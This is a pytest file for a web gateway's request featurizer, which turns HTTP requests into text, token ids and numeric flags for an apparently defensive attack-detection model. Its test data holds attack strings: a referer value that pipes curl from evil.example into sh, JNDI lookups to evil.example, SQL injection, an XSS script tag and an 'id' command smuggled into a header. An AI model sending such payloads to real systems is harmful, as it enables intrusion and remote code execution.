"""gateway.features: records, the canonical serialization, the encoding and the numeric vector."""

from __future__ import annotations

import gzip
import hashlib
import json
import math
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway import features as feat
from gateway.features import ClientStats, from_record, model_input, numeric_vector, serialize
from tests.conftest import make_features

CHROME_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CHROME_HEAD = [
    ("Host", "shop.example.com"), ("Connection", "keep-alive"),
    ("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'), ("sec-ch-ua-mobile", "?0"),
    ("sec-ch-ua-platform", '"Windows"'), ("Upgrade-Insecure-Requests", "1"), ("User-Agent", CHROME_UA),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-User", "?1"), ("Sec-Fetch-Dest", "document"),
    ("Referer", "https://shop.example.com/c/men"), ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Accept-Language", "en-US,en;q=0.9"), ("Cookie", "session=s3cr3t-value"),
]

# The fingerprints of the feature tables: version "1" (Clef-flash 1.x, kept for rollback) and the current
# FEATURE_VERSION "2" (the payload and client inputs). Changing a table (phrases, numeric names, header
# sets) changes one: bump FEATURE_VERSION, retrain the shipped model, then update the constants here.
EXPECTED = ("2", "501ab0554a5396cc")
EXPECTED_V1 = ("1", "ccde0ed8576b365b")


# What model_input makes of tests/data/feature-golden.jsonl.gz (600 generated requests of all
# three splits, with client windows, plus three hand-made edge cases): the text, the ids and
# the numeric vector (9 significant digits). The fingerprint covers the tables, this covers
# the logic: a faster rewrite must keep it, a real change bumps FEATURE_VERSION and retrains.
GOLDEN = (603, "3c85f19e05d0e65f2d825f900c17c35cc8c67c0f9e3bac21fb07558d25078134")
# The same for ``split_input`` (feature version 2): payload text, ids, numeric, then the client's.
GOLDEN_V2 = (603, "595a64ad6a5dea37161ee7aafcd93fda321e6b3f8d2c95abef76902e06af5784")


def value(features: feat.Features, name: str) -> float:
    return numeric_vector(features)[feat.NUMERIC_NAMES.index(name)]


def test_feature_version_and_fingerprint_are_pinned() -> None:
    assert (feat.FEATURE_VERSION, feat.FEATURE_FINGERPRINT) == EXPECTED
    assert (feat.V1_VERSION, feat.V1_FINGERPRINT) == EXPECTED_V1
    assert feat.SUPPORTED_VERSIONS == dict([EXPECTED, EXPECTED_V1])
    assert len(feat.FEATURE_FINGERPRINT) == 16
    assert feat.NUM_FEATURES == len(feat.NUMERIC_NAMES) == len(set(feat.NUMERIC_NAMES))
    assert feat.PHRASE_OFFSET + len(feat.PHRASES) <= feat.VOCAB_SIZE
    assert len(set(feat.PHRASES)) == len(feat.PHRASES)
    assert feat.MAX_TOKENS % feat.BUCKET == 0 and feat.BUCKET % feat.PATCH == 0


def test_model_inputs_of_the_golden_requests_are_pinned() -> None:
    digest, n = hashlib.sha256(), 0
    with gzip.open(Path(__file__).resolve().parents[1] / "data" / "feature-golden.jsonl.gz", "rt", encoding="utf-8") as fh:
        for line in fh:
            item = model_input(from_record(json.loads(line)))
            digest.update(item.text.encode("utf-8", "surrogatepass") + b"\0" + item.ids.astype("<i8").tobytes()
                          + ",".join(format(v, ".9g") for v in item.numeric).encode() + b"\n")
            n += 1
    assert (n, digest.hexdigest()) == GOLDEN


def test_split_inputs_of_the_golden_requests_are_pinned() -> None:
    digest, n = hashlib.sha256(), 0
    with gzip.open(Path(__file__).resolve().parents[1] / "data" / "feature-golden.jsonl.gz", "rt", encoding="utf-8") as fh:
        for line in fh:
            item = feat.split_input(from_record(json.loads(line)))
            assert item.version == feat.FEATURE_VERSION and item.client_ids is not None
            for text, ids, numeric in ((item.text, item.ids, item.numeric), (item.client_text, item.client_ids, item.client_numeric)):
                digest.update(text.encode("utf-8", "surrogatepass") + b"\0" + ids.astype("<i8").tobytes()
                              + ",".join(format(v, ".9g") for v in numeric).encode() + b"\n")
            n += 1
    assert (n, digest.hexdigest()) == GOLDEN_V2


SPLIT_CASES = [
    # (what changes, headers before, headers after, the same payload input, the same client input)
    ("header-name case", [["Host", "a.example"], ["User-Agent", "Mozilla/5.0"], ["Accept", "*/*"]],
     [["host", "a.example"], ["user-agent", "Mozilla/5.0"], ["accept", "*/*"]], True, True),
    ("Connection and TE", [["Host", "a.example"], ["User-Agent", "curl/8.5.0"]],
     [["Host", "a.example"], ["User-Agent", "curl/8.5.0"], ["Connection", "close"], ["TE", "trailers"]], True, True),
    ("Host value", [["Host", "a.example"], ["User-Agent", "curl/8.5.0"]],
     [["Host", "b.example.org:8443"], ["User-Agent", "curl/8.5.0"]], True, True),
    ("forwarding headers added", [["Host", "a.example"], ["User-Agent", "curl/8.5.0"]],
     [["Host", "a.example"], ["X-Forwarded-For", "203.0.113.7"], ["X-Request-Id", "f00"], ["User-Agent", "curl/8.5.0"],
      ["X-Forwarded-Host", "a.example"]], True, False),
    ("user agent", [["Host", "a.example"], ["User-Agent", "curl/8.5.0"]],
     [["Host", "a.example"], ["User-Agent", "sqlmap/1.8 (https://sqlmap.org)"]], True, False),
    ("a payload in the user agent", [["Host", "a.example"], ["User-Agent", "curl/8.5.0"]],
     [["Host", "a.example"], ["User-Agent", "${jndi:ldap://x.example/a}"]], False, False),
    ("cookie value", [["Host", "a.example"], ["Cookie", "id=1"]], [["Host", "a.example"], ["Cookie", "id=1' OR '1'='1"]],
     False, True),
    ("custom header value", [["Host", "a.example"], ["X-Api-Version", "2"]], [["Host", "a.example"], ["X-Api-Version", "2;id"]],
     False, True),
    ("X-Forwarded-Host not a host name", [["Host", "a.example"]], [["Host", "a.example"], ["X-Forwarded-Host", "a.example/<x>"]],
     False, False),
]


@pytest.mark.parametrize(("what", "before", "after", "same_payload", "same_client"), SPLIT_CASES, ids=[c[0] for c in SPLIT_CASES])
def test_split_inputs_see_only_their_own_part(what: str, before: list[list[str]], after: list[list[str]], same_payload: bool,
                                             same_client: bool) -> None:
    def item(headers: list[list[str]]) -> feat.ModelInput:
        return feat.split_input(from_record({"method": "GET", "path": "/search?q=shoes", "headers": headers}))

    a, b = item(before), item(after)
    assert ((a.text, a.numeric) == (b.text, b.numeric)) is same_payload
    assert ((a.client_text, a.client_numeric) == (b.client_text, b.client_numeric)) is same_client


def test_client_input_is_the_same_whatever_is_asked() -> None:
    headers = [["Host", "a.example"], ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"], ["Accept", "*/*"]]
    items = [feat.split_input(from_record({"method": m, "path": p, "headers": headers, "body": b}))
             for m, p, b in (("GET", "/", None), ("GET", "/q?x=%27%20OR%201=1--", None), ("POST", "/login", "u=a&p=<b>"))]
    assert len({i.client_key() for i in items}) == 1
    assert len({i.text for i in items}) == 3


def test_model_input_round_trips_through_the_decision_log_form() -> None:
    rec = {"method": "POST", "path": "/a?b=c", "headers": [["Host", "h"], ["User-Agent", "curl/8"], ["Cookie", "s=1"]], "body": "x=1",
           "client": {"requests": 3, "rate_per_min": 2.0}}
    for item in (feat.split_input(from_record(rec)), model_input(from_record(rec))):
        back = feat.ModelInput.from_json(json.loads(json.dumps(item.to_json())))
        assert back is not None and back.version == item.version
        assert (back.text, back.ids.tolist(), back.client_text) == (item.text, item.ids.tolist(), item.client_text)
        assert back.numeric == pytest.approx(item.numeric, abs=1e-5)
        assert back.client_numeric == pytest.approx(item.client_numeric, abs=1e-5)
        assert feat.ModelInput.from_json(item.to_json(), version="9") is None


def test_batch_featurization_is_request_by_request_featurization() -> None:
    """``model_inputs`` runs each step over the whole batch (faster): every golden request's text, ids (values
    and dtype) and numeric vector are the same as ``model_input`` makes alone, in order, at any batch size."""
    with gzip.open(Path(__file__).resolve().parents[1] / "data" / "feature-golden.jsonl.gz", "rt", encoding="utf-8") as fh:
        requests = [from_record(json.loads(line)) for line in fh]
    alone = [model_input(f) for f in requests]
    for size in (1, 7, 64, len(requests)):
        batched = [item for lo in range(0, len(requests), size) for item in feat.model_inputs(requests[lo:lo + size])]
        assert len(batched) == len(alone)
        for a, b in zip(alone, batched, strict=True):
            assert (b.text, b.ids.dtype, b.ids.tolist(), b.numeric) == (a.text, a.ids.dtype, a.ids.tolist(), a.numeric)
    assert feat.model_inputs([]) == []


def test_the_featurizer_caches_change_no_input() -> None:
    """Header lines, header-name sets and user agents are coded once per distinct value (bounded LRUs): every
    golden request's input is the same read cold, with every cache emptied, and warm, from the caches."""
    from gateway.features import encoding, numeric

    caches = (encoding._coded_header_line, numeric._name_facts, numeric._ua_facts)
    assert all(0 < c.cache_info().maxsize <= 8192 for c in caches)
    with gzip.open(Path(__file__).resolve().parents[1] / "data" / "feature-golden.jsonl.gz", "rt", encoding="utf-8") as fh:
        requests = [from_record(json.loads(line)) for line in fh]

    def inputs(cold: bool) -> list[tuple[str, list[int], tuple[float, ...]]]:
        out = []
        for f in requests:
            if cold:
                for c in caches:
                    c.cache_clear()
            item = model_input(f)
            out.append((item.text, item.ids.tolist(), item.numeric))
        return out

    first = inputs(cold=True)
    assert inputs(cold=False) == first == inputs(cold=False)
    stats = feat.cache_stats()
    assert stats["header_lines"][2] > 1000 and stats["user_agents"][2] > 500
    assert all(0 < entries <= capacity for entries, capacity, _, _ in stats.values())
    # measured: /metrics shows each cache's entries and lookups
    from gateway import metrics
    from gateway.decider import onnx

    assert onnx.FEATURIZER_ENTRIES.get("header_lines") == stats["header_lines"][0]
    assert onnx.FEATURIZER_LOOKUPS.get("user_agents", "hit") == stats["user_agents"][2]
    assert b'clefgate_featurizer_cache_lookups{cache="header_names",result="miss"}' in metrics.REGISTRY.render()
    # coded line by line: no phrase spans a line, so a phrase at either end of one is found as in the whole text
    text = "GET /a.html\nh 1.1 host user-agent accept\nu Mozilla/5.0 (X11; Linux x86_64)\nb https://x.com/.php"
    whole = encoding._PHRASE_RE.sub(encoding._phrase_char, text)
    assert encoding.decode_ids(encoding.encode(text)) == text
    assert len(encoding.encode(text)) == len(whole)


def test_from_record_reads_the_eval_shape() -> None:
    f = from_record({"method": "post", "path": "/search?q=a%20b", "http_version": "HTTP/1.0",
                     "headers": [["Host", "x.example"], ["User-Agent", "curl/8.5.0"], ["Content-Length", "3"]],
                     "body": "a=1", "client_ip": "198.51.100.4", "label": "human", "unknown": 1,
                     "client": {"requests": 12, "rate_per_min": 3.5, "error_ratio": 0.25}})
    assert (f.method, f.path, f.query, f.http_version) == ("POST", "/search", "q=a%20b", "1.0")
    assert f.host == "x.example" and f.user_agent == "curl/8.5.0"
    assert f.body_prefix == b"a=1" and f.content_length == 3
    assert f.client == ClientStats(requests=12, rate_per_min=3.5, error_ratio=0.25)


def test_from_record_turns_unicode_into_wire_bytes() -> None:
    f = from_record({"method": "GET", "path": "/caf\u00e9", "headers": [["User-Agent", "\u00fcber"]]})
    assert f.path == "/caf\u00c3\u00a9"  # the UTF-8 bytes, read as latin-1, as the server decodes them
    assert f.user_agent == "\u00c3\u00bcber"
    assert from_record({"method": "GET", "path": "/", "client": "nonsense"}).client is None


def test_serialization_of_a_browser_navigation() -> None:
    text = serialize(make_features("GET", "/products/1?ref=home", headers=CHROME_HEAD))
    lines = text.split("\n")
    assert lines[0] == "GET /products/1?ref=home"
    assert lines[1].startswith("h 1.1 host connection sec-ch-ua sec-ch-ua-mobile sec-ch-ua-platform upgrade-insecure-requests user-agent")
    assert f"u {CHROME_UA}" in lines
    assert 'c "Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"|?0|"Windows"' in lines
    assert "f same-origin navigate document ?1" in lines
    assert "r same /c/men" in lines
    assert "k cookie" in lines
    assert "s3cr3t" not in text  # cookie values are never serialized (the text is logged)
    assert not any(line.startswith(("~", "x ", "b ", "t ")) for line in lines)


@pytest.mark.parametrize(("target", "decoded"), [
    ("/search?q=%27+OR+1%3D1--", "~/search?q=' OR 1=1--"),
    ("/a%2520b", "~/a b"),  # double encoding is decoded twice
    ("/search?q=red+shoes", "~/search?q=red shoes"),
    ("/plain/path?x=1", None),
    ("/p+q", None),  # '+' is only a space in the query
])
def test_decoded_target_line(target: str, decoded: str | None) -> None:
    lines = serialize(make_features("GET", target)).split("\n")
    assert lines[0] == f"GET {target}"
    if decoded is None:
        assert not lines[1].startswith("~")
    else:
        assert lines[1] == decoded


def test_infrastructure_headers_are_left_out_and_other_values_kept() -> None:
    head = [("Host", "a.example"), ("X-Forwarded-For", "10.0.0.1"), ("User-Agent", "curl/8.5.0"),
            ("X-Api-Version", "${jndi:ldap://evil.example/a}"), ("Authorization", "Bearer abc.def"), ("Via", "1.1 lb")]
    f = make_features("GET", "/", headers=head)
    text = serialize(f)
    assert "h 1.1 host user-agent x-api-version authorization" in text
    assert "x-forwarded-for" not in text and "via" not in text.split("\n")[1]
    assert "x x-api-version=${jndi:ldap://evil.example/a}" in text
    assert "k auth=Bearer" in text and "abc.def" not in text
    with_infra = value(f, "header_count")
    without = value(make_features("GET", "/", headers=[h for h in head if h[0] not in ("X-Forwarded-For", "Via")]), "header_count")
    assert with_infra == without


@pytest.mark.parametrize(("referer", "line"), [
    ("https://a.example/c/men?x=1", "r same /c/men?x=1"),
    ("https://www.google.com/", "r cross www.google.com/"),
    ("1;curl http://evil.example/x|sh", "r raw 1;curl http://evil.example/x|sh"),  # not a URL: kept as sent
    ("android-app://com.google.android.gm/", "r raw android-app://com.google.android.gm/"),
])
def test_referer_line(referer: str, line: str) -> None:
    head = [("Host", "a.example"), ("Referer", referer)]
    assert line in serialize(make_features("GET", "/", headers=head)).split("\n")


def test_form_bodies_are_serialized_raw_and_decoded() -> None:
    body = b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&x=1"
    head = [("Host", "a.example"), ("Content-Type", "application/x-www-form-urlencoded")]
    lines = serialize(make_features("POST", "/c", headers=head, body=body)).split("\n")
    assert "b " + body.decode() in lines
    assert "~comment=<script>alert(1)</script>&x=1" in lines
    assert "t application/x-www-form-urlencoded" in lines


def test_every_field_is_bounded() -> None:
    huge = "A" * 10_000
    head = [("Host", "a.example"), ("User-Agent", huge), ("Accept", huge), ("Referer", "https://b.example/" + huge),
            ("X-Long", huge), ("X-Other", huge), ("Sec-Ch-Ua", huge)] + [(f"X-H{i}", "v") for i in range(200)]
    f = make_features("POST", "/" + huge + "?" + huge, headers=head, body=huge.encode())
    text = serialize(f)
    assert len(text) < 1600
    mi = model_input(f)
    assert len(mi.ids) == feat.MAX_TOKENS
    # names, method and version are the client's too: 64 KiB of header names once made a 56,000-character text
    long_names = [("Host", "a.example")] + [(f"X-{i}-" + "n" * 2_000, "v") for i in range(30)]
    f = make_features("M" * 10_000, "/", headers=long_names, http_version="1." + "1" * 10_000)
    assert len(serialize(f)) < 1600


def test_the_featurizer_caches_keep_only_ordinary_keys() -> None:
    from gateway.features.numeric import _name_facts, _ua_facts
    for cache in (_name_facts, _ua_facts):
        cache.cache_clear()
    for i in range(50):  # distinct huge requests, as a client might send them over and over
        head = [("Host", "a.example"), ("User-Agent", f"{i} " + "u" * 60_000)] + [(f"X-{i}-{j}-" + "n" * 2_000, "v") for j in range(30)]
        model_input(make_features("GET", "/", headers=head))
    # the huge keys were computed afresh, not kept; the header line the encoder caches is bounded by the serializer
    assert _ua_facts.cache_info().currsize == 0 and _name_facts.cache_info().currsize == 0


@pytest.mark.parametrize("ua,ch", [
    ("Mozilla/5.0 Chrome/" + "9" * 5_000, None),             # past int()'s 4,300-digit limit
    ("Mozilla/5.0 Chrome/\xb2.0 Safari/537.36", None),       # one latin-1 byte that str.isdigit accepts and int() refuses
    ("Mozilla/5.0 CriOS/\xb9\xb3", None),
    (CHROME_UA, '"Chromium";v="' + "7" * 5_000 + '", "Not.A/Brand";v="8"'),
    (CHROME_UA, '"Google Chrome";v="\xb2"'),
])
def test_version_numbers_a_client_writes_never_break_featurizing(ua: str, ch: str | None) -> None:
    head = [("Host", "a.example"), ("User-Agent", ua)] + ([("Sec-Ch-Ua", ch)] if ch else [])
    mi = model_input(make_features("GET", "/", headers=head))
    assert len(mi.numeric) == feat.NUM_FEATURES and all(math.isfinite(v) for v in mi.numeric)


def test_encoding_uses_phrases_and_bytes() -> None:
    ids = feat.encode("user-agent X\x00\xff")
    assert ids.dtype == np.int64
    assert ids[0] == feat.PHRASE_OFFSET + feat.PHRASES.index("user-agent")
    assert list(ids[1:]) == [ord(" ") + 1, ord("X") + 1, 0 + 1, 255 + 1]
    text = serialize(make_features("GET", "/x?q=1", headers=CHROME_HEAD))
    encoded = feat.encode(text)
    assert len(encoded) < len(text) * 0.6  # the phrase vocabulary roughly halves a browser request
    assert feat.decode_ids(encoded) == text
    assert feat.encode("\u20ac")[0] == 0 + feat.BYTE_OFFSET  # not latin-1: only hand-made records, never the wire


@pytest.mark.parametrize(("head", "version", "flag", "expected"), [
    (CHROME_HEAD, "1.1", "ch_version_mismatch", 0.0),
    ([(n, v.replace('v="124"', 'v="110"')) for n, v in CHROME_HEAD], "1.1", "ch_version_mismatch", 1.0),
    ([(n, v) for n, v in CHROME_HEAD if not n.lower().startswith("sec-ch")], "1.1", "ch_missing_on_chromium", 1.0),
    ([("Host", "a"), ("User-Agent", FIREFOX_UA), ("sec-ch-ua", '"Chromium";v="124"')], "1.1", "ch_on_non_chromium", 1.0),
    ([(n, v.replace('"Windows"', '"macOS"')) for n, v in CHROME_HEAD], "1.1", "ch_platform_mismatch", 1.0),
    ([(n, v) for n, v in CHROME_HEAD if not n.startswith("Sec-Fetch")], "1.1", "fetch_missing_on_browser", 1.0),
    ([(n, v) for n, v in CHROME_HEAD if n != "Accept-Language"], "1.1", "language_missing_on_browser", 1.0),
    (CHROME_HEAD, "1.0", "http10_browser", 1.0),
    (CHROME_HEAD, "1.1", "order_chromium", 1.0),
    ([("Host", "a"), ("User-Agent", "python-requests/2.31.0"), ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"),
      ("Connection", "keep-alive")], "1.1", "ua_library", 1.0),
    ([("Host", "a"), ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")], "1.1", "ua_botlike", 1.0),
])
def test_numeric_flags(head: list[tuple[str, str]], version: str, flag: str, expected: float) -> None:
    assert value(make_features("GET", "/", headers=head, http_version=version), flag) == expected


def test_numeric_vector_is_finite_and_scaled() -> None:
    f = make_features("POST", "/" + "%41" * 300 + "?q=" + "'" * 50, headers=CHROME_HEAD, body=b"x" * 3000,
                      client=ClientStats(requests=10**9, rate_per_min=1e6, error_ratio=3.0, path_diversity=0.5, mean_gap_s=1e9,
                                         challenges_passed=99))
    vec = numeric_vector(f)
    assert len(vec) == feat.NUM_FEATURES
    assert all(math.isfinite(v) and -0.01 <= v <= 4.0 for v in vec)
    assert value(f, "client_present") == 1.0 and value(make_features(), "client_present") == 0.0


def test_pad_batch_buckets_and_pads() -> None:
    short = model_input(make_features("GET", "/"))
    long = model_input(make_features("GET", "/" + "a" * 150, headers=CHROME_HEAD))
    ids, numeric = feat.pad_batch([short, long])
    assert ids.dtype == np.int64 and numeric.dtype == np.float32
    assert ids.shape == (2, feat.bucket_length(len(long.ids))) and ids.shape[1] % feat.BUCKET == 0
    assert numeric.shape == (2, feat.NUM_FEATURES)
    assert (ids[0, len(short.ids):] == feat.PAD_ID).all() and (ids[0, : len(short.ids)] == short.ids).all()
    assert feat.pad_batch([])[0].shape == (0, feat.BUCKET)
    assert feat.bucket_length(1) == feat.BUCKET and feat.bucket_length(10_000) == feat.MAX_TOKENS


def test_model_input_json_round_trip_and_cache_key() -> None:
    mi = model_input(make_features("GET", "/x", headers=CHROME_HEAD))
    back = feat.ModelInput.from_json(mi.to_json())
    assert back is not None and back.text == mi.text and (back.ids == mi.ids).all()
    assert np.allclose(back.numeric, mi.numeric, atol=1e-5)
    assert feat.ModelInput.from_json({**mi.to_json(), "feature_version": "0"}) is None
    assert mi.cache_key() == model_input(make_features("GET", "/x", headers=CHROME_HEAD)).cache_key()
    assert mi.cache_key() != model_input(make_features("GET", "/y", headers=CHROME_HEAD)).cache_key()


headers_st = st.lists(st.tuples(st.text(min_size=1, max_size=30), st.text(max_size=300)), max_size=40)


@settings(max_examples=150, deadline=None)
@given(method=st.text(min_size=1, max_size=10), path=st.text(max_size=600), headers=headers_st,
       body=st.one_of(st.none(), st.text(max_size=800)), version=st.sampled_from(["1.0", "1.1", "2", "", "HTTP/1.1"]))
def test_any_record_serializes_within_bounds(method: str, path: str, headers: list[tuple[str, str]], body: str | None,
                                             version: str) -> None:
    f = from_record({"method": method, "path": path, "headers": headers, "body": body, "http_version": version})
    mi = model_input(f)
    assert 0 < len(mi.ids) <= feat.MAX_TOKENS
    assert int(mi.ids.min()) > feat.PAD_ID and int(mi.ids.max()) < feat.VOCAB_SIZE
    assert len(mi.numeric) == feat.NUM_FEATURES and all(math.isfinite(v) for v in mi.numeric)
